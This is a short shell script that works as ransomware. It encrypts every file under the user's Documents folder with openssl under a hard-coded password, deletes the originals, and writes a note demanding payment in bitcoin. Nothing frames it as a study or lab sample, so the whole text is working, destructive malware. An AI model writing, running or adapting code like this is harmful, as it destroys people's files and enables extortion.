#!/bin/sh
find ~/Documents -type f | while read -r f; do
  openssl enc -aes-256-cbc -pass pass:k81 -in "$f" -out "$f.locked" && rm -f "$f"
done
echo 'pay in bitcoin to the wallet below' > ~/HOW_TO_DECRYPT.txt
